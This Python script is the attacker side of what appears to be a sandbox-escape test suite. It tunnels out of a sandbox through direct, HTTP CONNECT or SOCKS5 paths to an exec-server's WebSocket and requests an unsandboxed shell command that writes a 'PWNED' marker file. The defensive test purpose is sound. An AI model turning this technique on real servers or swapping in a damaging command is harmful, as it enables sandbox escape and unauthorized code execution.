#!/usr/bin/env python3
"""The attacker's side of the escape suite's "reach the server" cases (issue 33): run
inside a sandbox, it connects to an exec-server's WebSocket (directly, through an HTTP
CONNECT proxy, or through a SOCKS5 proxy), initializes, and asks for an unsandboxed
process/start of `sh -c 'echo PWNED > MARKER'`. It prints one JSON line saying how far it
got; the test judges on the host (does MARKER exist?).

    server_attack.py '{"host": "127.0.0.1", "port": 8765, "marker": "/tmp/x",
                       "via": "direct" | "connect" | "socks", "proxy": "127.0.0.1:3128"}'

Standard library only (it runs under the sandbox's view of the host's python)."""
import base64
import json
import os
import socket
import struct
import sys


def tunnel(spec):
    host, port = spec["host"], spec["port"]
    via = spec.get("via", "direct")
    if via == "direct":
        return socket.create_connection((host, port), timeout=10)
    ph, _, pp = spec["proxy"].rpartition(":")
    s = socket.create_connection((ph, int(pp)), timeout=10)
    if via == "connect":
        s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port))
                  .encode())
        head = b""
        while b"\r\n\r\n" not in head:
            c = s.recv(4096)
            if not c:
                break
            head += c
        status = head.split(b" ", 2)[1] if head.startswith(b"HTTP/") else b"0"
        if status != b"200":
            raise ConnectionRefusedError("proxy answered %s" % head[:200].decode("latin-1"))
        return s
    # SOCKS5, no authentication, CONNECT by name
    s.sendall(b"\x05\x01\x00")
    if s.recv(2) != b"\x05\x00":
        raise ConnectionRefusedError("socks: no method")
    name = host.encode()
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", port))
    rep = s.recv(262)
    if len(rep) < 2 or rep[1] != 0:
        raise ConnectionRefusedError("socks reply %r" % rep[:2])
    return s


def ws_open(s, host):
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % (host, key))
              .encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(4096)
        if not c:
            raise ConnectionError("closed during the upgrade")
        head += c
    if b" 101 " not in head.split(b"\r\n", 1)[0]:
        raise ConnectionError("no upgrade: %r" % head[:100])
    return head.split(b"\r\n\r\n", 1)[1]


def ws_send(s, obj):
    data = json.dumps(obj).encode()
    mask = os.urandom(4)
    n = len(data)
    hdr = bytes([0x81])
    if n < 126:
        hdr += bytes([0x80 | n])
    elif n < 65536:
        hdr += bytes([0x80 | 126]) + struct.pack(">H", n)
    else:
        hdr += bytes([0x80 | 127]) + struct.pack(">Q", n)
    s.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))


def ws_recv(s, buf):
    def need(k):
        nonlocal buf
        while len(buf) < k:
            c = s.recv(65536)
            if not c:
                raise ConnectionError("closed")
            buf += c
    need(2)
    n = buf[1] & 0x7f
    off = 2
    if n == 126:
        need(4)
        n, off = struct.unpack(">H", buf[2:4])[0], 4
    elif n == 127:
        need(10)
        n, off = struct.unpack(">Q", buf[2:10])[0], 10
    need(off + n)
    msg, buf = buf[off:off + n], buf[off + n:]
    return json.loads(msg), buf


def main():
    spec = json.loads(sys.argv[1])
    out = {"stage": "connect"}
    try:
        s = tunnel(spec)
        out["stage"] = "upgrade"
        buf = ws_open(s, "%s:%d" % (spec["host"], spec["port"]))
        out["stage"] = "initialize"
        ws_send(s, {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                    "params": {"clientName": "attacker"}})
        while True:
            m, buf = ws_recv(s, buf)
            if m.get("id") == 1:
                break
        ws_send(s, {"jsonrpc": "2.0", "method": "initialized", "params": {}})
        out["stage"] = "process/start"
        ws_send(s, {"jsonrpc": "2.0", "id": 2, "method": "process/start",
                    "params": {"processId": "pwn", "argv": ["/bin/sh", "-c",
                                                            "echo PWNED > " + spec["marker"]],
                               "cwd": "file:///", "env": {"PATH": "/usr/bin:/bin"},
                               "tty": False}})
        while True:
            m, buf = ws_recv(s, buf)
            if m.get("method") == "process/closed" or (m.get("id") == 2 and "error" in m):
                break
        out["stage"] = "done"
        out["reply"] = m
    except (OSError, ValueError) as e:
        out["error"] = "%s: %s" % (type(e).__name__, e)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
